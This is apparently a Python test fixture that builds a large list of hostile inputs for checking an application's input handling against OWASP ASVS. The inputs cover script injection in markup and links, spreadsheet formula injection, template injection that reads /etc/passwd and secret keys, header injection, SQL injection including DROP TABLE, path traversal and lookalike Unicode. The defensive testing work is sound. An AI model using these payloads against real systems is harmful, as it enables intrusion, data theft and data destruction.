"""What somebody types who means harm: more than a thousand texts, each of which shows where it was obeyed.

Whatever is obeyed calls `zzran`, makes an element or an attribute whose name begins with "zz", works out SUM, or starts a
header. What must only come out as it went in (names written from the right, emoji, marks that cannot be seen) is in WRITING.
Source: reference/trust.md, promise 24; OWASP ASVS 5.0, V1.2 and V1.3.
"""

from itertools import cycle, product

RUN, SUM = "zzran(1)", 48271 * 3  # what a template that is obeyed works out

ELEMENTS = (
    *("zzx", "a", "audio", "base", "body", "button", "details", "embed", "form", "frameset", "html", "iframe", "image", "img"),
    *("input", "link", "marquee", "math", "meta", "noscript", "object", "picture", "plaintext", "script", "select", "source"),
    *("style", "svg", "table", "template", "textarea", "title", "track", "video", "xmp"),
)
HANDLERS = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter"),
    *("onstart", "onscroll", "onbeforeinput", "onpageshow", "onhashchange", "onsubmit"),
)
# Whatever may stand around a text: an attribute in either quotation mark, an element that holds no other, a comment, a script.
CLOSES = (
    *(
        "",
        '"',
        "'",
        "`",
        '">',
        "'>",
        " ",
        "-->",
        "]]>",
        "</p>",
        "</textarea>",
        "</title>",
        "</script>",
        "</style>",
        "</select>",
    ),
    *("</noscript>", "</template>", "</svg>", '\\">', "&quot;>", "%22%3E", '"/>', "\n", "\u2028", "';", '";', "*/", "${", "}}"),
)
SCHEMES = ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "javascript&colon;", "vbscript:", "data:text/html,")
FORMULA_STARTS = (
    "=",
    "+",
    "-",
    "@",
    " =",
    "\u00a0=",
    "\uff1d",
    "\uff0b",
    "\u200b=",
    "\ufeff=",
    '"=',
    "'=",
    ";=",
    ",=",
    "\x0b=",
)
FORMULAS = ("cmd|' /C zzran'!A0", 'HYPERLINK("https://zz.example/"&A1,"zz")', "SUM(1;1)", "WEBSERVICE(A1)", "48271*3")
TEMPLATES = (
    *("{{ 48271*3 }}", "{{48271*3}}", "{% raise %}", "{% include '/etc/passwd' %}", "{{ self.__init__.__globals__ }}"),
    *("{{ request.actor }}", "{{ settings.SECRET_KEY }}", "${48271*3}", "#{48271*3}", "<%= 48271*3 %>", "{48271*3}"),
    *("%(zz)s", "{zz}", "{0.__class__}", "%s%s%n", "#(48271*3)", "#eval(48271*3)", '#read("/etc/passwd")', "$48271*3$"),
    *("\\input{/etc/passwd}", "[zz](javascript:zzran(1))", "![zz](https://zz.example/p.png)", "<!--#exec cmd='zz'-->"),
)
HEADERS = tuple(
    f"{close}{name}: {value}"
    for close in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x0b", "zz\r\n\r\n", "\r\n ")
    for name, value in (("Bcc", "zz@zz.example"), ("Subject", "zz"), ("Set-Cookie", "zz=1"), ("Content-Type", "text/html"))
)
STATEMENTS = (
    "' OR 1=1 --",
    "'; DROP TABLE cases_concern; --",
    '" OR ""="',
    "\\'; SELECT 1",
    "%' ESCAPE '",
    "_%",
    "1); --",
    "||zz",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\zz",
    "/etc/passwd",
    "file:///etc/passwd",
    "//zz.example/",
    "\\\\zz.example\\c",
    "zz\x00.pdf",
)
WRITING = (
    "\u202eevil\u202c",
    "\u2066zz\u2069\u200f",
    "שרה כהן",
    "أمينة الحسن",
    "👩🏽\u200d⚕️👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319alg\u0489o",
    "\u200b\u200c\u200d\ufeff\u2060",
    "Раураl \u0430dmin",  # letters that look like others
    "O’Brien-Ngũgĩ & <Söhne>",
    "王\u3000小明",
    "\ud7ff\ufffd\U0010ffff",
    "a" * 200,
)


def payloads() -> list[str]:
    """Every text, without those that no database of ours can hold (a NUL is tried where it is typed)."""
    handlers, schemes = cycle(HANDLERS), cycle(SCHEMES)
    markup = [f"{close}<{element} zzx=1 {next(handlers)}={RUN} src=x>" for close, element in product(CLOSES, ELEMENTS)]
    quoted = [f"{close} zzx=1 {handler}={RUN} {close}" for close, handler in product(("", '"', "'", "`", "\t"), HANDLERS)]
    scripts = [f"{close}<script>{RUN}</script>" for close in CLOSES] + [f"{close}{RUN}//" for close in CLOSES]
    links = [f"{close}<a href={next(schemes)}{RUN}>" for close in CLOSES] + [f"{scheme}{RUN}" for scheme in SCHEMES]
    broken = [f"<{element}/zzx=1/{next(handlers)}={RUN}//" for element in ELEMENTS]
    formulas = [f"{start}{rest}" for start, rest in product(FORMULA_STARTS, FORMULAS)]
    found = (markup, quoted, scripts, links, broken, formulas, TEMPLATES, HEADERS, STATEMENTS, PATHS, WRITING)
    return list(dict.fromkeys(text.replace("\x00", "") for texts in found for text in texts))
